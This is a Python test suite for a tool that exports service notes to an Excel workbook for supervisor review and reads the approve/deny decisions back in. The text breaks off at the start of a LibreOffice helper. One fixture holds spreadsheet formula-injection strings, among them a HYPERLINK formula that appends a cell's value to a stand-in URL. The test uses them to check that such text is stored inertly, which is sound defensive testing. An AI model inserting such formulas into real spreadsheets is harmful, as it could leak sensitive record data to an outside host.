"""Supervisor review through Excel: `note export` and `note import-review`.

Every assertion reads real outcomes back: the xlsx cell by cell with openpyxl, the note
files and the audit log on disk, exit codes and the single `Error:` line.
"""
from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import re
import shutil
import stat
import tomllib
import zipfile
from pathlib import Path

import click
import openpyxl
import pytest
from click.testing import CliRunner

from peerkit.workspace import Workspace
from peerkit_notes import review

NOW = "2026-11-25T09:00:00"
TODAY = "2026-11-25"


# --------------------------------------------------------------------------- helpers


def _real_cli_has_export() -> bool:
    try:
        from peerkit_notes.commands import note
    except Exception:  # noqa: BLE001 - the notes group may not be wired yet
        return False
    return "export" in note.commands and "import-review" in note.commands


class _Invoker:
    """`note export ...` through the real CLI once the notes group includes the review
    commands; until then through a group with peerkit's own error boundary."""

    def __init__(self, run):
        self.run = run
        self.real = _real_cli_has_export()
        if not self.real:
            from peerkit.cli import PeerkitGroup
            from peerkit_notes.review_commands import note_export, note_import_review

            class Group(PeerkitGroup):
                get_command = click.Group.get_command
                list_commands = click.Group.list_commands

            @click.group(cls=Group)
            def note():
                pass

            note.add_command(note_export)
            note.add_command(note_import_review)
            self.group = note

    def __call__(self, *args, env=None):
        if self.real:
            return self.run("note", *args, env=env)
        return CliRunner().invoke(self.group, [str(a) for a in args], env=env)


@pytest.fixture
def note_cmd(run, monkeypatch):
    monkeypatch.setenv("PEERKIT_TODAY", TODAY)
    monkeypatch.setenv("PEERKIT_NOW", NOW)
    return _Invoker(run)


@pytest.fixture
def peers(ws_path, tmp_path):
    """Two peers' workspaces: the example one (Jordan) and a copy for another peer (Casey)."""
    second = tmp_path / "casey"
    shutil.copytree(ws_path, second)
    cfg = second / "peerkit.toml"
    text = cfg.read_text()
    assert 'name = "Jordan Rivera"' in text
    cfg.write_text(text.replace('name = "Jordan Rivera"', 'name = "Casey Example"', 1)
                   .replace('rounding = "half-up"', 'rounding = "up"', 1))
    return ws_path, second


def snapshot(*roots: Path) -> dict[str, bytes]:
    """Every file's bytes under the roots (lock files and note caches aside: they hold no data)."""
    out = {}
    for root in roots:
        for p in sorted(root.rglob("*")):
            if p.is_file() and not p.name.startswith(".peerkit.lock") \
                    and p.name not in (".notes-cache.json", ".clients-cache.json"):
                out[str(p)] = p.read_bytes()
    return out


def note_files(*roots: Path) -> dict[str, bytes]:
    return {k: v for k, v in snapshot(*roots).items() if "/notes/" in k}


def error_lines(result) -> list[str]:
    return [ln for ln in result.output.splitlines() if ln.startswith("Error:")]


def assert_clean_failure(result, code=3):
    assert result.exit_code == code, result.output
    assert "Traceback" not in result.output
    assert len(error_lines(result)) == 1, result.output


def reviewable_notes(root: Path, statuses=review.REVIEWABLE):
    return [n for n in Workspace(root).notes() if n.status in statuses]


def note_toml(root: Path, note_id: str) -> dict:
    path = next(root.glob(f"notes/*/*/{note_id}.toml"))
    return tomllib.loads(path.read_text())


def row_of(sheet, note_id: str, workspace: str) -> int:
    hdr = [c.value for c in sheet[1]]
    n_col, w_col = hdr.index("Note") + 1, hdr.index("Workspace") + 1
    for r in range(2, sheet.max_row + 1):
        if sheet.cell(r, n_col).value == note_id and sheet.cell(r, w_col).value == workspace:
            return r
    raise AssertionError(f"no row for {note_id} in {workspace}")


def col(name: str) -> int:
    return review.headers().index(name) + 1


def decide(src: Path, dst: Path, decisions, *, edit=None, reviewer=None) -> None:
    """Type decisions into the exported workbook with openpyxl, as a supervisor would."""
    wb = openpyxl.load_workbook(src)
    sheet = wb["Notes"]
    for (note_id, workspace), (decision, reason) in decisions.items():
        r = row_of(sheet, note_id, workspace)
        sheet.cell(r, col("Decision")).value = decision
        if reason is not None:
            sheet.cell(r, col("Reason")).value = reason
    if edit:
        edit(sheet)
    if reviewer:
        wb.properties.lastModifiedBy = reviewer
    wb.save(dst)


@pytest.fixture
def exported(note_cmd, peers, tmp_path):
    a, b = peers
    out = tmp_path / "review.xlsx"
    result = note_cmd("export", "--out", out, a, b)
    assert result.exit_code == 0, result.output
    return out


# --------------------------------------------------------------------------- export


def test_export_two_peers_cell_by_cell(note_cmd, peers, tmp_path):
    a, b = peers
    out = tmp_path / "review.xlsx"
    result = note_cmd("export", "--out", out, a, b)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600

    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Notes", "Summary", "peerkit", "Activities", "Notice"]   # docs/review.md
    assert wb["peerkit"].sheet_state == "hidden"
    sheet = wb["Notes"]
    assert [c.value for c in sheet[1]] == review.headers()
    assert review.headers()[-4:] == ["Fingerprint", "Decision", "Reason", "Exported state"]
    assert sheet.column_dimensions["Z"].hidden

    expected = {("ws", n.id): n for n in reviewable_notes(a)}
    expected.update({("casey", n.id): n for n in reviewable_notes(b)})
    assert len(expected) == 2 * 23  # draft and void notes are not exported by default
    assert sheet.max_row == len(expected) + 1

    peers_by_ws = {"ws": "Jordan Rivera", "casey": "Casey Example"}
    rules = {"ws": Workspace(a).unit_rule, "casey": Workspace(b).unit_rule}
    clients = Workspace(a).clients()
    seen = set()
    for r in range(2, sheet.max_row + 1):
        get = lambda name, r=r: sheet.cell(r, col(name))  # noqa: E731
        key = (get("Workspace").value, get("Note").value)
        note = expected[key]
        seen.add(key)
        assert get("Peer").value == peers_by_ws[key[0]]
        assert get("Client").value == note.client
        assert get("Client name").value == clients[note.client].name
        assert get("Date").is_date and get("Date").value.date() == note.date
        assert get("Date").number_format == "yyyy-mm-dd"
        assert get("Start").value == note.start and get("End").value == note.end
        assert get("Minutes").value == note.minutes
        billed = note.status not in ("void", "denied")  # denied notes bill 0 units (issue 20)
        assert get("Units").value == (rules[key[0]].units(note.minutes) if billed else 0)
        assert get("Code").value == note.code
        assert (get("Modifier").value or "") == note.modifier
        goal_texts = [f"{g}: {clients[note.client].goal(g).text}" for g in note.goals]
        assert get("Goals").value == "; ".join(goal_texts)
        assert get("Place").value == note.place
        for field in ("Location", "Purpose", "Intervention", "Response", "Plan"):
            assert (get(field).value or "") == getattr(note, field.lower())
        assert get("Status").value == note.status
        assert get("Late entry").value == ("yes" if note.late_entry else "no")
        assert get("Fingerprint").value == review.fingerprint(note)
        assert get("Decision").value is None and get("Reason").value is None
        at = note.review.get("at").isoformat() if note.review.get("at") else "-"
        assert get("Exported state").value == f"status={note.status};decided={at}"
    assert seen == set(expected)

    # the "up" rounding of Casey's workspace really gives other units than half-up
    assert any(rules["ws"].units(n.minutes) != rules["casey"].units(n.minutes)
               for n in expected.values())

    # the late-signed example note carries its finding of `note check`
    late = sheet.cell(row_of(sheet, "N-2026-11-12-C003-2", "ws"), col("Findings")).value
    assert "signed-late" in late and late.startswith("warning")

    last = sheet.max_row
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:Z{last}"
    assert sheet.column_dimensions["P"].width == 40
    dvs = sheet.data_validations.dataValidation
    assert len(dvs) == 1
    dv = dvs[0]
    assert dv.type == "list" and dv.formula1 == '"approved,denied"'
    assert str(dv.sqref) == f"X2:X{last}"
    assert dv.showErrorMessage and dv.allow_blank

    # Summary: per peer figures equal the sums of the Notes sheet
    summary = wb["Summary"]
    assert [c.value for c in summary[1]] == review.SUMMARY_HEADER
    assert summary.freeze_panes == "A2"
    rows = {summary.cell(r, 2).value: [summary.cell(r, c).value for c in range(1, 8)]
            for r in (2, 3)}
    for wsname in ("ws", "casey"):
        mine = [r for r in range(2, last + 1) if sheet.cell(r, col("Workspace")).value == wsname]
        findings = [sheet.cell(r, col("Findings")).value or "" for r in mine]
        lines = [ln for f in findings for ln in f.splitlines()]
        assert rows[wsname] == [
            peers_by_ws[wsname], wsname, len(mine),
            sum(sheet.cell(r, col("Minutes")).value for r in mine),
            sum(sheet.cell(r, col("Units")).value for r in mine),
            sum(1 for ln in lines if ln.startswith("error ")),
            sum(1 for ln in lines if ln.startswith("warning ")),
        ]
    assert [summary.cell(4, c).value for c in range(1, 8)] == [
        "Total", None, "=SUM(C2:C3)", "=SUM(D2:D3)", "=SUM(E2:E3)", "=SUM(F2:F3)", "=SUM(G2:G3)"]

    # hidden sheet: where each workspace is, for import-review
    meta = [[c.value for c in row] for row in wb["peerkit"].iter_rows()]
    assert ["workspace", "ws", str(a.resolve())] in meta
    assert ["workspace", "casey", str(b.resolve())] in meta
    assert ["format", None, review.FORMAT] in meta

    # one audit entry per workspace naming the exported ids and the file
    for root, wsname in ((a, "ws"), (b, "casey")):
        entry = json.loads((root / "audit.log").read_text().splitlines()[-1])
        assert entry["command"] == "note export"
        assert entry["output"] == str(out.resolve())
        assert sorted(entry["records"]) == sorted(k[1] for k in expected if k[0] == wsname)


def test_export_filters_and_current_workspace(note_cmd, ws_path, tmp_path):
    out = tmp_path / "week.xlsx"
    result = note_cmd("export", "--from", "2026-11-16", "--to", "2026-11-22", "--status", "all",
                      "--out", out, env={"PEERKIT_WORKSPACE": str(ws_path)})
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["Notes"]
    ids = sorted(sheet.cell(r, 1).value for r in range(2, sheet.max_row + 1))
    want = sorted(n.id for n in Workspace(ws_path).notes(dt.date(2026, 11, 16), dt.date(2026, 11, 22)))
    assert ids == want and len(ids) > 3

    out2 = tmp_path / "drafts.xlsx"
    result = note_cmd("export", "--status", "draft", "--status", "void", "--out", out2, ws_path)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out2)["Notes"]
    assert sorted(sheet.cell(r, col("Status")).value for r in range(2, sheet.max_row + 1)) == \
        ["draft", "void"]
    # void notes bill no units; their real minutes stay
    void_row = next(r for r in range(2, 4) if sheet.cell(r, col("Status")).value == "void")
    assert sheet.cell(void_row, col("Units")).value == 0
    assert sheet.cell(void_row, col("Minutes")).value > 0


FORMULAS = {
    "purpose": '=HYPERLINK("http://example.invalid/?"&A2,"click")',
    "intervention": "+1+1",
    "response": "-2+3",
    "plan": "@SUM(A1)",
    "location": " =1+1",
}


def test_export_bad_arguments(note_cmd, ws_path, tmp_path):
    out = tmp_path / "x.xlsx"
    result = note_cmd("export", "--out", out, ws_path, tmp_path / "nothing-here")
    assert_clean_failure(result)
    assert "peerkit.toml" in error_lines(result)[0]
    result = note_cmd("export", "--from", "2026-11-20", "--to", "2026-11-01", "--out", out, ws_path)
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert not out.exists()
    assert not (ws_path / "audit.log").exists()

    bad = ws_path / "notes/2026/11/N-2026-11-20-C001-2.toml"
    bad.write_text(bad.read_text().replace("end = ", "end = 'soon' #", 1))
    result = note_cmd("export", "--out", out, ws_path)
    assert_clean_failure(result)
    assert "N-2026-11-20-C001-2.toml" in error_lines(result)[0] and "'end'" in error_lines(result)[0]
    assert not out.exists() and not (ws_path / "audit.log").exists()


def test_formula_looking_text_is_stored_as_text(note_cmd, ws_path, tmp_path):
    path = ws_path / "notes/2026/11/N-2026-11-23-C001-1.toml"
    text = path.read_text()
    data = tomllib.loads(text)
    for key, value in FORMULAS.items():
        text = text.replace(f"{key} = {json.dumps(data[key])}", f"{key} = {json.dumps(value)}")
    path.write_text(text)
    assert tomllib.loads(text)["purpose"] == FORMULAS["purpose"]

    out = tmp_path / "f.xlsx"
    result = note_cmd("export", "--out", out, ws_path)
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(out)["Notes"]
    r = row_of(sheet, "N-2026-11-23-C001-1", "ws")
    for key, value in FORMULAS.items():
        cell = sheet.cell(r, col(key.capitalize()))
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    with zipfile.ZipFile(out) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml


def test_export_refuses_text_too_long_for_a_cell(note_cmd, ws_path, tmp_path, monkeypatch):
    import tempfile

    path = ws_path / "notes/2026/11/N-2026-11-23-C001-1.toml"
    data = tomllib.loads(path.read_text())
    path.write_text(path.read_text().replace(json.dumps(data["response"]), json.dumps("x" * 40_000)))
    made: list[str] = []   # the writer's temporary folders (xlsxwriter's constant_memory rows)
    real_mkdtemp = tempfile.mkdtemp

    def mkdtemp(*args, **kwargs):
        made.append(real_mkdtemp(*args, **kwargs))
        return made[-1]

    monkeypatch.setattr(tempfile, "mkdtemp", mkdtemp)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / "long.xlsx"
    result = note_cmd("export", "--out", out, ws_path)
    assert_clean_failure(result)
    assert "N-2026-11-23-C001-1" in result.output and "Response" in result.output
    assert "xxxxx" not in result.output
    assert not out.exists()
    # the half-written sheet's temporary files (narrative inside) are gone too, and so is the
    # temporary file the workbook was being written to
    assert made and not any(os.path.exists(p) for p in made)
    assert list(out_dir.iterdir()) == []


def test_deidentified_export(note_cmd, peers, tmp_path):
    a, b = peers
    out1, out2 = tmp_path / "d1.xlsx", tmp_path / "d2.xlsx"
    for out in (out1, out2):
        result = note_cmd("export", "--deidentify", "--status", "all", "--out", out, a, b)
        assert result.exit_code == 0, result.output
    key = a / ".peerkit" / "pseudonym.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert (a / ".peerkit/pseudonym.key").read_bytes() != (b / ".peerkit/pseudonym.key").read_bytes()

    # no name, id or narrative anywhere in the file
    with zipfile.ZipFile(out1) as zf:
        raw = b"".join(zf.read(n) for n in zf.namelist())
    for secret in (b"Sam Example", b"Riley Sample", b"Jordan Rivera", b"Casey Example",
                   b"N-2026-11", b"Main St", b"housing", str(a).encode(), b"casey"):
        assert secret not in raw, secret
    # a client id as a token of its own (pseudonyms are upper-case hex, which may contain "C001")
    assert not re.search(rb"(?<![0-9A-Za-z])C00[1-4](?![0-9A-Za-z])", raw)

    s1 = openpyxl.load_workbook(out1)["Notes"]
    s2 = openpyxl.load_workbook(out2)["Notes"]
    hdr = [c.value for c in s1[1]]
    assert hdr == review.headers(deidentified=True)
    for dropped in ("Client name", "Location", "Purpose", "Intervention", "Response", "Plan",
                    "Fingerprint", "Decision", "Reason"):
        assert dropped not in hdr
    rows1 = [[c.value for c in row] for row in s1.iter_rows(min_row=2)]
    rows2 = [[c.value for c in row] for row in s2.iter_rows(min_row=2)]
    assert rows1 == rows2 and len(rows1) == 50  # stable pseudonyms across exports
    notes_a = list(Workspace(a).notes())
    # same client id -> same pseudonym in one workspace; another per workspace
    by_client = {}
    for row in rows1:
        by_client.setdefault((row[hdr.index("Workspace")], row[hdr.index("Client")]), 0)
    assert len(by_client) == 2 * len({n.client for n in notes_a})
    assert {row[hdr.index("Peer")] for row in rows1} == {
        review.Pseudonyms.for_workspace(Workspace(a)).peer(),
        review.Pseudonyms.for_workspace(Workspace(b)).peer()}
    assert all(row[hdr.index("Note")].startswith("N-") and len(row[hdr.index("Note")]) == 14
               for row in rows1)
    # the audit log records the real ids (internal) and that it was de-identified
    entry = json.loads((a / "audit.log").read_text().splitlines()[-1])
    assert entry["action"] == "deidentified" and "N-2026-11-23-C001-1" in entry["records"]

    # a de-identified workbook cannot be imported
    before = snapshot(a, b)
    result = note_cmd("import-review", out1, "--reviewer", "Pat Supervisor")
    assert_clean_failure(result)
    assert "--deidentify" in error_lines(result)[0]
    assert snapshot(a, b) == before


# --------------------------------------------------------------------------- round trip


def test_round_trip_then_second_run_changes_nothing(note_cmd, peers, exported, tmp_path):
    a, b = peers
    filled = tmp_path / "filled.xlsx"
    decide(exported, filled, {
        ("N-2026-11-23-C001-1", "ws"): ("approved", None),              # signed
        ("N-2026-11-20-C001-2", "ws"): ("denied", "Plan is missing the next step"),  # submitted
        ("N-2026-11-23-C001-1", "casey"): ("Approved", "Good note"),  # case is forgiven
    })
    before = snapshot(a, b)
    result = note_cmd("import-review", filled, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 0, result.output
    assert "Recorded 3 decision(s)" in result.output

    n1 = note_toml(a, "N-2026-11-23-C001-1")
    assert n1["status"] == "approved"
    assert n1["review"] == {"decision": "approved", "reviewer": "Pat Supervisor", "reason": "",
                            "at": dt.datetime.fromisoformat(NOW)}
    n2 = note_toml(a, "N-2026-11-20-C001-2")
    assert n2["status"] == "denied"
    assert n2["review"]["reason"] == "Plan is missing the next step"
    n3 = note_toml(b, "N-2026-11-23-C001-1")
    assert n3["status"] == "approved" and n3["review"]["reason"] == "Good note"
    # the other Jordan copy of N-2026-11-20-C001-2 was not decided: untouched
    assert note_toml(b, "N-2026-11-20-C001-2")["status"] == "submitted"

    after = snapshot(a, b)
    changed = {k for k in after if before.get(k) != after[k]}
    assert changed == {
        str(a / "notes/2026/11/N-2026-11-23-C001-1.toml"),
        str(a / "notes/2026/11/N-2026-11-20-C001-2.toml"),
        str(b / "notes/2026/11/N-2026-11-23-C001-1.toml"),
        str(a / "audit.log"), str(b / "audit.log")}
    # comments and layout kept (tomlkit edit): only status and the review table differ
    old = before[str(a / "notes/2026/11/N-2026-11-23-C001-1.toml")].decode()
    new = after[str(a / "notes/2026/11/N-2026-11-23-C001-1.toml")].decode()
    assert new.startswith(old.split('status = "signed"')[0])
    entry = json.loads((a / "audit.log").read_text().splitlines()[-1])
    assert entry["command"] == "note import-review"
    assert sorted(entry["records"]) == ["N-2026-11-20-C001-2", "N-2026-11-23-C001-1"]

    # the notes still load as valid notes with the new status
    assert Workspace(a).note("N-2026-11-20-C001-2").review["decision"] == "denied"

    # second run: nothing changes, byte for byte, and the report says so
    result = note_cmd("import-review", filled, "--reviewer", "Pat Supervisor")
    assert result.exit_code == 0, result.output
    assert result.output.count("(unchanged)") == 3
    assert "Recorded 0 decision(s)" in result.output
    assert snapshot(a, b) == after


def test_dry_run_and_json_write_nothing(note_cmd, peers, exported, tmp_path):
    a, b = peers
    filled = tmp_path / "filled.xlsx"
    decide(exported, filled, {("N-2026-11-23-C001-1", "ws"): ("approved", None)})
    before = snapshot(a, b)
    result = note_cmd("import-review", filled, "--reviewer", "Pat", "--dry-run", "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout if hasattr(result, "stdout") else result.output)
    assert data == [{"row": data[0]["row"], "note": "N-2026-11-23-C001-1", "workspace": "ws",
                     "peer": "Jordan Rivera", "decision": "approved", "old_status": "signed",
                     "new_status": "approved", "result": "would record", "problem": None}]
    assert snapshot(a, b) == before


def test_reviewer_comes_from_the_workbook_or_must_be_given(note_cmd, peers, exported, tmp_path,
                                                           monkeypatch):
    monkeypatch.delenv("PEERKIT_REVIEWER", raising=False)
    a, b = peers
    plain = tmp_path / "plain.xlsx"
    decide(exported, plain, {("N-2026-11-23-C001-1", "ws"): ("approved", None)})
    before = snapshot(a, b)
    result = note_cmd("import-review", plain)
    assert_clean_failure(result, code=2)
    assert "--reviewer" in error_lines(result)[0]
    assert snapshot(a, b) == before

    saved_by = tmp_path / "saved_by.xlsx"
    decide(exported, saved_by, {("N-2026-11-23-C001-1", "ws"): ("approved", None)},
           reviewer="Pat Supervisor")
    result = note_cmd("import-review", saved_by)
    assert result.exit_code == 0, result.output
    assert note_toml(a, "N-2026-11-23-C001-1")["review"]["reviewer"] == "Pat Supervisor"

    # $PEERKIT_REVIEWER comes before the workbook's name (a new decision: a reason is added,
    # from a workbook exported after the first decision)
    newer = tmp_path / "newer.xlsx"
    assert note_cmd("export", "--out", newer, a, b).exit_code == 0
    again = tmp_path / "again.xlsx"
    decide(newer, again, {("N-2026-11-23-C001-1", "ws"): ("approved", "ok")},
           reviewer="Someone Else")
    result = note_cmd("import-review", again, env={"PEERKIT_REVIEWER": "Lee Lead"})
    assert result.exit_code == 0, result.output
    assert note_toml(a, "N-2026-11-23-C001-1")["review"]["reviewer"] == "Lee Lead"


def test_partial_records_valid_rows_and_exits_1(note_cmd, peers, exported, tmp_path):
    a, b = peers
    filled = tmp_path / "filled.xlsx"
    decide(exported, filled, {("N-2026-11-23-C001-1", "ws"): ("approved", None),
                              ("N-2026-11-20-C001-2", "ws"): ("denied", None)})  # no reason
    before = note_files(a, b)
    result = note_cmd("import-review", filled, "--reviewer", "Pat")
    assert_clean_failure(result)
    assert note_files(a, b) == before
    assert "N-2026-11-20-C001-2: a denial needs a Reason" in result.output

    result = note_cmd("import-review", filled, "--reviewer", "Pat", "--partial")
    assert result.exit_code == 1, result.output
    assert note_toml(a, "N-2026-11-23-C001-1")["status"] == "approved"
    assert note_toml(a, "N-2026-11-20-C001-2")["status"] == "submitted"


# --------------------------------------------------------------------------- bad input


def _insert_extra_column(sheet):
    sheet.cell(1, 27).value = "Comment"


def _rename_column(sheet):
    sheet.cell(1, col("Reason")).value = "Why"


def _drop_column(sheet):
    sheet.delete_cols(col("Reason"))


def _unknown_id(sheet):
    r = row_of(sheet, "N-2026-11-23-C001-1", "ws")
    sheet.cell(r, col("Note")).value = "N-2026-11-30-C001-9"


def _outside_list(sheet):
    sheet.cell(row_of(sheet, "N-2026-11-23-C001-1", "ws"), col("Decision")).value = "maybe"


def _formula_decision(sheet):
    sheet.cell(row_of(sheet, "N-2026-11-23-C001-1", "ws"), col("Decision")).value = '=IF(1,"approved")'


def _duplicate_row(sheet):
    r = row_of(sheet, "N-2026-11-23-C001-1", "ws")
    r2 = row_of(sheet, "N-2026-11-20-C001-2", "ws")
    for c in range(1, len(review.headers()) + 1):
        sheet.cell(r2, c).value = sheet.cell(r, c).value
    sheet.cell(r2, col("Decision")).value = "denied"
    sheet.cell(r2, col("Reason")).value = "No"


def _unknown_workspace(sheet):
    sheet.cell(row_of(sheet, "N-2026-11-23-C001-1", "ws"), col("Workspace")).value = "elsewhere"


def _cell_outside(sheet):
    sheet.cell(row_of(sheet, "N-2026-11-23-C001-1", "ws"), 28).value = "see me"


BAD_SHEETS = {
    "cell outside": (_cell_outside, "row {row}: note N-2026-11-23-C001-1: cell AB{row} is outside "
                                    "the exported columns"),
    "extra column": (_insert_extra_column, "extra column 'Comment' (column AA)"),
    "renamed column": (_rename_column, "column Y is 'Why' where 'Reason' was expected"),
    "missing column": (_drop_column, "missing column 'Reason'"),
    "unknown id": (_unknown_id, "row {row}: note N-2026-11-30-C001-9: unknown note id"),
    "outside the list": (_outside_list, "row {row}: note N-2026-11-23-C001-1: Decision must be "
                                        "'approved' or 'denied'"),
    "formula cell": (_formula_decision, "cell X{row} holds a formula"),
    "duplicate": (_duplicate_row, "row {row}: note N-2026-11-23-C001-1: the same note is also decided on row"),
    "unknown workspace": (_unknown_workspace, "names no exported workspace"),
}


@pytest.mark.parametrize("case", sorted(BAD_SHEETS))
def test_bad_sheet_is_refused_and_nothing_changes(case, note_cmd, peers, exported, tmp_path):
    a, b = peers
    edit, expected = BAD_SHEETS[case]
    wb = openpyxl.load_workbook(exported)
    row = row_of(wb["Notes"], "N-2026-11-23-C001-1", "ws")
    filled = tmp_path / "bad.xlsx"
    decide(exported, filled, {("N-2026-11-23-C001-1", "ws"): ("approved", None),
                              ("N-2026-11-23-C001-1", "casey"): ("approved", None)}, edit=edit)
    before = snapshot(a, b)
    result = note_cmd("import-review", filled, "--reviewer", "Pat Supervisor")
    assert_clean_failure(result)
    assert expected.format(row=row) in result.output
    assert "Sam Example" not in result.output  # never a name in a message
    assert snapshot(a, b) == before


def test_changed_note_is_refused_row_by_row(note_cmd, peers, exported, tmp_path):
    a, b = peers
    filled = tmp_path / "filled.xlsx"
    decide(exported, filled, {("N-2026-11-23-C001-1", "ws"): ("approved", None),
                              ("N-2026-11-20-C001-2", "ws"): ("approved", None)})
    path = a / "notes/2026/11/N-2026-11-23-C001-1.toml"
    path.write_text(path.read_text().replace("end = 11:00:00", "end = 11:30:00"))
    row = row_of(openpyxl.load_workbook(filled)["Notes"], "N-2026-11-23-C001-1", "ws")
    before = snapshot(a, b)
    result = note_cmd("import-review", filled, "--reviewer", "Pat Supervisor")
    assert_clean_failure(result)
    assert f"row {row}: note N-2026-11-23-C001-1: changed after export" in result.output
    assert "1 of 2 decided row(s) refused; nothing was written" in error_lines(result)[0]
    assert snapshot(a, b) == before  # the valid row was not written either


def test_draft_and_void_notes_cannot_be_decided(note_cmd, ws_path, tmp_path):
    out = tmp_path / "all.xlsx"
    assert note_cmd("export", "--status", "all", "--out", out, ws_path).exit_code == 0
    filled = tmp_path / "filled.xlsx"
    decide(out, filled, {("N-2026-11-24-C004-1", "ws"): ("approved", None),
                         ("N-2026-11-11-C003-1", "ws"): ("approved", None)})
    before = snapshot(ws_path)
    result = note_cmd("import-review", filled, "--reviewer", "Pat")
    assert_clean_failure(result)
    assert "note N-2026-11-24-C004-1: is draft; only signed, submitted, approved or denied" in result.output
    assert "note N-2026-11-11-C003-1: is void" in result.output
    assert snapshot(ws_path) == before


def _corrupt(p: Path):
    p.write_bytes(os.urandom(2048))


def _empty(p: Path):
    p.write_bytes(b"")


def _truncated(p: Path):
    p.write_bytes(p.read_bytes()[:1500])


def _not_peerkit(p: Path):
    wb = openpyxl.Workbook()
    wb.active.title = "Notes"
    wb.active.append(review.headers())
    wb.save(p)


def _no_notes_sheet(p: Path):
    wb = openpyxl.load_workbook(p)
    wb["Notes"].title = "Sheet1"
    wb.save(p)


@pytest.mark.parametrize("damage,expected", [
    (_corrupt, "not an .xlsx workbook"),
    (_empty, "is empty (0 bytes)"),
    (_truncated, "damaged or truncated"),
    (_not_peerkit, "has no hidden 'peerkit' sheet"),
    (_no_notes_sheet, "has no sheet 'Notes'"),
])
def test_unreadable_workbooks(damage, expected, note_cmd, peers, exported, tmp_path):
    a, b = peers
    bad = tmp_path / "bad.xlsx"
    shutil.copy(exported, bad)
    damage(bad)
    before = snapshot(a, b)
    result = note_cmd("import-review", bad, "--reviewer", "Pat")
    assert_clean_failure(result)
    assert expected in error_lines(result)[0]
    assert snapshot(a, b) == before


# --------------------------------------------------------------------------- units


def test_units_follow_each_workspace_day_rule(note_cmd, ws_path, tmp_path):
    cfg = ws_path / "peerkit.toml"
    cfg.write_text(cfg.read_text().replace('units_per = "note"', 'units_per = "day"', 1))
    out = tmp_path / "day.xlsx"
    assert note_cmd("export", "--status", "all", "--out", out, ws_path).exit_code == 0
    sheet = openpyxl.load_workbook(out)["Notes"]
    from peerkit.units import units_by_note

    ws = Workspace(ws_path)
    notes = [n for n in ws.notes() if n.status != "void"]
    want = units_by_note(notes, ws.unit_rule)
    for r in range(2, sheet.max_row + 1):
        nid = sheet.cell(r, 1).value
        assert sheet.cell(r, col("Units")).value == want.get(nid, 0), nid


def test_fingerprint_ignores_review_but_sees_content(ws):
    note = ws.note("N-2026-11-23-C001-1")
    base = review.fingerprint(note)
    assert len(base) == 64 and base == hashlib.sha256(
        json.dumps(review._canon({k: v for k, v in note.to_dict().items()
                                  if k not in ("status", "review")}),
                   sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()).hexdigest()
    note.status, note.review = "approved", {"decision": "approved"}
    assert review.fingerprint(note) == base
    note.response += "."
    assert review.fingerprint(note) != base


# --------------------------------------------------------------------------- plugin formats


def test_hook_note_exporters(note_cmd, register_plugin, peers, tmp_path):
    """A plugin's note_exporters format gets (note, workspace) pairs and writes the file."""
    from peerkit import hookimpl
    from peerkit.storage import atomic_write_text

    seen = {}

    class CsvLite:
        @hookimpl
        def note_exporters(self):
            def export(rows, out_path, *, options):
                seen["options"] = options
                lines = [f"{note.id},{ws.root.name},{note.minutes}" for note, ws in rows]
                atomic_write_text(out_path, "\n".join(lines) + "\n")
            return {"csv-lite": export}

    register_plugin(CsvLite(), name="csv_lite")
    a, b = peers
    out = tmp_path / "notes.csv"
    result = note_cmd("export", "--format", "csv-lite", "--status", "signed", "--out", out, a, b)
    assert result.exit_code == 0, result.output
    signed = [n for n in Workspace(a).notes() if n.status == "signed"]
    assert len(signed) == 2
    assert out.read_text().splitlines() == (
        [f"{n.id},ws,{n.minutes}" for n in signed] + [f"{n.id},casey,{n.minutes}" for n in signed])
    assert seen["options"]["statuses"] == ("signed",) and seen["options"]["format"] == "csv-lite"
    entry = json.loads((b / "audit.log").read_text().splitlines()[-1])
    assert entry["records"] == [n.id for n in signed] and entry["action"] == "format csv-lite"

    result = note_cmd("export", "--format", "nope", "--out", out, a)
    assert_clean_failure(result, code=2)
    assert "xlsx, csv-lite" in error_lines(result)[0]
    result = note_cmd("export", "--format", "csv-lite", "--deidentify", "--out", out, a)
    assert_clean_failure(result, code=2)


def test_two_workspaces_with_the_same_folder_name(note_cmd, ws_path, tmp_path):
    """Keys stay unique (ws, ws-2) and a decision lands in the right folder."""
    other = tmp_path / "elsewhere" / "ws"
    shutil.copytree(ws_path, other)
    out = tmp_path / "same.xlsx"
    assert note_cmd("export", "--out", out, ws_path, other).exit_code == 0
    wb = openpyxl.load_workbook(out)
    meta = [[c.value for c in row] for row in wb["peerkit"].iter_rows()]
    assert ["workspace", "ws", str(ws_path.resolve())] in meta
    assert ["workspace", "ws-2", str(other.resolve())] in meta
    filled = tmp_path / "filled.xlsx"
    decide(out, filled, {("N-2026-11-23-C001-1", "ws-2"): ("denied", "Add the goal progress")})
    before = snapshot(ws_path)
    result = note_cmd("import-review", filled, "--reviewer", "Pat")
    assert result.exit_code == 0, result.output
    assert note_toml(other, "N-2026-11-23-C001-1")["status"] == "denied"
    assert snapshot(ws_path) == before


# --------------------------------------------------------------------------- a real spreadsheet app

_RECALC_XCU = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""  # noqa: E501 - LibreOffice's settings XML, one item a line as LibreOffice writes it


def _through_libreoffice(xlsx: Path, workdir: Path) -> Path:
    """Open the workbook in LibreOffice (recalculating every formula) and save it as xlsx."""
    import subprocess

